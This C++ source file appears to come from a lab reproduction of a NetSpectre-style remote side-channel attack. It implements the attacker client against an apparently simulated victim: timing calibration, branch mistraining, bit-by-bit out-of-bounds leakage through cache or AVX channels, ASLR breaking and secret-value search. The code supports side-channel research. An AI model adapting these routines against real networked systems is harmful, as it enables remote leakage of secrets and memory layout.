#include "nslab/attacker.hpp"

#include <omp.h>

#include <cmath>
#include <exception>
#include <limits>
#include <string>
#include <thread>

namespace nslab::attacker {

using wire::Opcode;

std::string_view to_string(Channel c) noexcept { return c == Channel::cache ? "cache" : "avx"; }
std::string_view to_string(Classifier c) noexcept { return c == Classifier::bayes ? "bayes" : "mode"; }

std::uint64_t RequestTally::attack_requests() const noexcept {
  std::uint64_t n = 0;
  for (std::size_t i = 0; i < by_opcode.size(); ++i) {
    const auto op = static_cast<Opcode>(i);
    if (op == Opcode::advance_clock || op == Opcode::reset) continue;
    n += by_opcode[i];
  }
  return n;
}

RequestTally& RequestTally::operator+=(const RequestTally& o) noexcept {
  for (std::size_t i = 0; i < by_opcode.size(); ++i) by_opcode[i] += o.by_opcode[i];
  return *this;
}

RequestTally RequestTally::operator-(const RequestTally& o) const noexcept {
  RequestTally r = *this;
  for (std::size_t i = 0; i < by_opcode.size(); ++i) r.by_opcode[i] -= o.by_opcode[i];
  return r;
}

Session::Session(wire::Transport& transport, victim::ClockMode clock_mode)
    : transport_(transport), clock_mode_(clock_mode) {}

wire::RequestPacket Session::next(Opcode op, std::uint64_t arg) {
  ++tally_.by_opcode[static_cast<std::size_t>(op)];
  return {op, arg, ++nonce_};
}

void Session::check(const wire::RequestPacket& req, const wire::ResponsePacket& resp) const {
  if (resp.nonce != req.nonce) throw ProtocolError("response nonce does not match request");
  if (resp.status != wire::Status::ok) {
    throw ProtocolError(std::string("victim rejected ") + std::string(wire::to_string(req.opcode)) +
                        " (status " + std::to_string(static_cast<int>(resp.status)) + ")");
  }
}

wire::ResponsePacket Session::send(Opcode op, std::uint64_t arg) {
  const auto req = next(op, arg);
  const auto resp = transport_.send(req);
  check(req, resp);
  return resp;
}

double Session::measure(Opcode op, std::uint64_t arg) {
  const auto req = next(op, arg);
  const auto ex = transport_.round_trip(req);
  check(req, ex.response);
  return ex.rtt_ns;
}

void Session::idle(std::uint64_t ns) {
  if (clock_mode_ == victim::ClockMode::virtual_clock)
    send(Opcode::advance_clock, ns);
  else
    std::this_thread::sleep_for(std::chrono::nanoseconds(ns));
}

void ExtractionPlan::validate() const {
  if (measurements_per_bit < 1) throw std::invalid_argument("measurements per bit must be >= 1");
  if (channel == Channel::cache && reset_bytes == 0) throw std::invalid_argument("cache channel needs reset_bytes > 0");
  if (in_bounds_length == 0) throw std::invalid_argument("in_bounds_length must be positive");
  if (first_bit < in_bounds_length) throw std::invalid_argument("target bits must be out of bounds");
  if (!(packet_cost_ns > 0.0)) throw std::invalid_argument("packet_cost_ns must be positive");
}

namespace {

struct ChannelOps {
  Opcode leak;
  Opcode transmit;
};

ChannelOps ops_for(Channel c) {
  return c == Channel::cache ? ChannelOps{Opcode::leak_cache, Opcode::transmit_cache}
                             : ChannelOps{Opcode::leak_avx, Opcode::transmit_avx};
}

void reset_element(Session& s, const ExtractionPlan& plan) {
  if (plan.channel == Channel::cache)
    s.send(Opcode::download, plan.reset_bytes);
  else
    s.idle(plan.avx_wait_ns);
}

double mean_of(const std::vector<double>& xs) {
  double sum = 0.0;
  for (double x : xs) sum += x;
  return sum / static_cast<double>(xs.size());
}

// z for p_below - p_above within one multinomial sample.
double side_z(const std::vector<double>& xs, double threshold) {
  std::uint64_t below = 0, above = 0;
  for (double x : xs) {
    below += x < threshold;
    above += x > threshold;
  }
  const double n = static_cast<double>(xs.size());
  const double pa = static_cast<double>(below) / n;
  const double pb = static_cast<double>(above) / n;
  const double d = pa - pb;
  const double var = (pa + pb - d * d) / n;
  if (var <= 0.0) {
    if (d > 0.0) return std::numeric_limits<double>::infinity();
    if (d < 0.0) return -std::numeric_limits<double>::infinity();
    return std::numeric_limits<double>::quiet_NaN();
  }
  return d / std::sqrt(var);
}

}  // namespace

stats::Calibration calibrate(Session& session, const ExtractionPlan& plan) {
  plan.validate();
  const auto ops = ops_for(plan.channel);
  const std::uint64_t n = plan.calibration_count();
  std::vector<double> hit, miss;
  hit.reserve(n);
  miss.reserve(n);
  for (std::uint64_t i = 0; i < n; ++i) {
    session.send(ops.transmit);
    hit.push_back(session.measure(ops.transmit));
  }
  for (std::uint64_t i = 0; i < n; ++i) {
    reset_element(session, plan);
    miss.push_back(session.measure(ops.transmit));
  }
  stats::Calibration c = stats::calibrate_from(hit, miss);
  const double resolvable = 4.0 * c.sigma_est / std::sqrt(static_cast<double>(n));
  if (!(c.mean_miss - c.mean_hit >= resolvable) || c.mean_miss == c.mean_hit) {
    throw CalibrationError("corner cases indistinguishable: |mean_miss - mean_hit| = " +
                           std::to_string(c.mean_miss - c.mean_hit) + " ns < " + std::to_string(resolvable) +
                           " ns; raise the measurement count");
  }
  return c;
}

BitResult leak_bit(Session& session, const ExtractionPlan& plan, const stats::Calibration& calib,
                   std::uint64_t bit_index) {
  const auto ops = ops_for(plan.channel);
  const std::uint64_t n = plan.measurements_per_bit;
  std::vector<double> samples;
  samples.reserve(n);
  for (std::uint64_t k = 0; k < n; ++k) {
    for (unsigned j = 0; j < plan.mistrain_count; ++j) session.send(ops.leak, j % plan.in_bounds_length);
    reset_element(session, plan);
    session.send(ops.leak, bit_index);
    samples.push_back(session.measure(ops.transmit));
  }

  BitResult r;
  r.index = bit_index;
  r.mean_ns = mean_of(samples);
  const auto bayes = stats::bayes_classify(samples, calib);
  r.llr = bayes.llr;

  stats::HistogramSpec spec;
  const auto hist = stats::histogram(samples, spec);
  const auto smoothed = stats::smooth(hist.counts, spec.smoothing_window);
  r.mode_ns = stats::mode(hist, smoothed, samples).ns;

  r.bit = plan.classifier == Classifier::bayes ? bayes.bit : stats::threshold_classify(r.mode_ns, calib);
  r.confidence = side_z(samples, calib.threshold);
  r.low_confidence = !(std::abs(r.confidence) >= plan.min_confidence);
  if (plan.keep_samples) r.samples = std::move(samples);
  return r;
}

RateProjection project_rate(const ExtractionPlan& plan, double requests_per_bit) {
  RateProjection p;
  p.requests_per_bit = requests_per_bit;
  p.request_seconds_per_bit = requests_per_bit * plan.packet_cost_ns * 1e-9;
  if (plan.channel == Channel::avx)
    p.idle_seconds_per_bit = static_cast<double>(plan.measurements_per_bit) * static_cast<double>(plan.avx_wait_ns) * 1e-9;
  if (p.request_seconds_per_bit > 0.0) {
    p.bits_per_hour = 3600.0 / p.request_seconds_per_bit;
    p.minutes_per_byte = 8.0 * p.request_seconds_per_bit / 60.0;
  }
  return p;
}

std::vector<int> LeakReport::bit_values() const {
  std::vector<int> out;
  out.reserve(bits.size());
  for (const auto& b : bits) out.push_back(b.bit);
  return out;
}

bool LeakReport::any_low_confidence() const {
  for (const auto& b : bits)
    if (b.low_confidence) return true;
  return false;
}

namespace {

std::vector<std::uint8_t> pack_bytes(const std::vector<BitResult>& bits) {
  std::vector<std::uint8_t> bytes(bits.size() / 8, 0);
  for (std::size_t i = 0; i < bytes.size() * 8; ++i)
    if (bits[i].bit) bytes[i / 8] |= static_cast<std::uint8_t>(0x80u >> (i % 8));
  return bytes;
}

}  // namespace

LeakReport leak_range(Session& session, const ExtractionPlan& plan, const stats::Calibration& calib,
                      std::size_t byte_count, const ProgressFn& progress) {
  plan.validate();
  LeakReport report;
  const RequestTally before = session.tally();
  const std::size_t total = byte_count * 8;
  for (std::size_t i = 0; i < total; ++i) {
    BitResult bit = leak_bit(session, plan, calib, plan.first_bit + i);
    if (progress) {
      const double rpb = static_cast<double>((session.tally() - before).attack_requests()) / static_cast<double>(i + 1);
      progress(bit, i + 1, total, project_rate(plan, rpb));
    }
    report.bits.push_back(std::move(bit));
  }
  report.requests = session.tally() - before;
  report.bytes = pack_bytes(report.bits);
  if (total > 0)
    report.rate = project_rate(plan, static_cast<double>(report.requests.attack_requests()) / static_cast<double>(total));
  return report;
}

namespace {

LeakReport leak_forked(const SessionFactory& factory, const ExtractionPlan& plan, const stats::Calibration& calib,
                       std::size_t byte_count, bool parallel) {
  plan.validate();
  const std::size_t total = byte_count * 8;
  std::vector<BitResult> bits(total);
  std::vector<RequestTally> tallies(total);
  std::vector<std::exception_ptr> errors(total);
  const auto one = [&](std::size_t i) {
    try {
      auto handle = factory(i);
      bits[i] = leak_bit(handle->session(), plan, calib, plan.first_bit + i);
      tallies[i] = handle->session().tally();
    } catch (...) {
      errors[i] = std::current_exception();
    }
  };
  if (parallel) {
    const auto n = static_cast<std::int64_t>(total);
#pragma omp parallel for schedule(dynamic, 1)
    for (std::int64_t i = 0; i < n; ++i) one(static_cast<std::size_t>(i));
  } else {
    for (std::size_t i = 0; i < total; ++i) one(i);
  }
  for (auto& e : errors)
    if (e) std::rethrow_exception(e);

  LeakReport report;
  report.bits = std::move(bits);
  for (const auto& t : tallies) report.requests += t;
  report.bytes = pack_bytes(report.bits);
  if (total > 0)
    report.rate = project_rate(plan, static_cast<double>(report.requests.attack_requests()) / static_cast<double>(total));
  return report;
}

}  // namespace

LeakReport leak_range_forked(const SessionFactory& factory, const ExtractionPlan& plan,
                             const stats::Calibration& calib, std::size_t byte_count) {
  return leak_forked(factory, plan, calib, byte_count, true);
}

LeakReport leak_range_forked_serial(const SessionFactory& factory, const ExtractionPlan& plan,
                                    const stats::Calibration& calib, std::size_t byte_count) {
  return leak_forked(factory, plan, calib, byte_count, false);
}

void AslrPlan::validate() const {
  if (space_bits < 1 || space_bits > 31) throw std::invalid_argument("ASLR space bits must be in [1, 31]");
  if (probes_per_check < 1) throw std::invalid_argument("probes per check must be >= 1");
  if (in_bounds_length == 0) throw std::invalid_argument("in_bounds_length must be positive");
}

namespace {

// Mean TIMING_FN latency after speculatively touching offsets [lo, hi).
double probe_half(Session& s, const AslrPlan& plan, std::uint64_t lo, std::uint64_t hi) {
  const std::uint64_t arg = wire::pack_range(static_cast<std::uint32_t>(lo), static_cast<std::uint32_t>(hi));
  double sum = 0.0;
  for (std::uint64_t k = 0; k < plan.probes_per_check; ++k) {
    for (unsigned j = 0; j < plan.mistrain_count; ++j) s.send(Opcode::aslr_probe, j % plan.in_bounds_length);
    s.send(Opcode::aslr_probe, arg);
    sum += s.measure(Opcode::timing_fn);
  }
  return sum / static_cast<double>(plan.probes_per_check);
}

}  // namespace

AslrResult break_aslr(Session& session, const AslrPlan& plan) {
  plan.validate();
  const std::uint64_t space = 1ull << plan.space_bits;
  const std::uint64_t n_cal = plan.calibration_samples ? plan.calibration_samples : plan.probes_per_check;

  // Corner cases: whole space probed (the valid line is cached) vs a re-read.
  std::vector<double> hit, miss;
  hit.reserve(n_cal);
  miss.reserve(n_cal);
  const std::uint64_t all = wire::pack_range(0, static_cast<std::uint32_t>(space));
  for (std::uint64_t k = 0; k < n_cal; ++k) {
    for (unsigned j = 0; j < plan.mistrain_count; ++j) session.send(Opcode::aslr_probe, j % plan.in_bounds_length);
    session.send(Opcode::aslr_probe, all);
    hit.push_back(session.measure(Opcode::timing_fn));
    miss.push_back(session.measure(Opcode::timing_fn));
  }

  AslrResult result;
  result.calibration = stats::calibrate_from(hit, miss);
  const double threshold = result.calibration.threshold;

  std::uint64_t lo = 0, hi = space;
  while (hi - lo > 1) {
    AslrRound round{lo, lo + (hi - lo) / 2, hi};
    for (;;) {
      round.mean_lower = probe_half(session, plan, round.lo, round.mid);
      round.mean_upper = probe_half(session, plan, round.mid, round.hi);
      const bool lower_hit = round.mean_lower < threshold;
      const bool upper_hit = round.mean_upper < threshold;
      if (lower_hit != upper_hit) {
        round.went_lower = lower_hit;
        break;
      }
      if (round.retries == plan.max_retries) {
        result.rounds.push_back(round);
        return result;
      }
      ++round.retries;
    }
    result.rounds.push_back(round);
    if (round.went_lower)
      hi = round.mid;
    else
      lo = round.mid;
  }
  result.success = true;
  result.offset = lo;
  return result;
}

void ValuePlan::validate() const {
  if (value_bits < 1 || value_bits > 63) throw std::invalid_argument("value bits must be in [1, 63]");
  if (measurements_per_round < 1) throw std::invalid_argument("measurements per round must be >= 1");
  if (reset_bytes == 0) throw std::invalid_argument("reset_bytes must be positive");
}

ValueResult value_threshold_search(Session& session, const ValuePlan& plan, const stats::Calibration& calib) {
  plan.validate();
  ValueResult result;
  std::uint64_t lo = 0, hi = 1ull << plan.value_bits;
  while (hi - lo > 1) {
    ValueRound round;
    round.lo = lo;
    round.hi = hi;
    const std::uint64_t mid = lo + (hi - lo) / 2;
    round.guess = mid - 1;  // "guess < secret" <=> secret >= mid
    double sum = 0.0;
    for (std::uint64_t k = 0; k < plan.measurements_per_round; ++k) {
      for (unsigned j = 0; j < plan.mistrain_count; ++j) session.send(Opcode::value_cmp, j);
      session.send(Opcode::download, plan.reset_bytes);
      session.send(Opcode::value_cmp, wire::kOutOfBoundsFlag | round.guess);
      sum += session.measure(Opcode::transmit_cache);
    }
    round.mean_ns = sum / static_cast<double>(plan.measurements_per_round);
    round.above = round.mean_ns < calib.threshold;
    result.rounds.push_back(round);
    if (round.above)
      lo = mid;
    else
      hi = mid;
  }
  result.value = lo;
  return result;
}

}  // namespace nslab::attacker
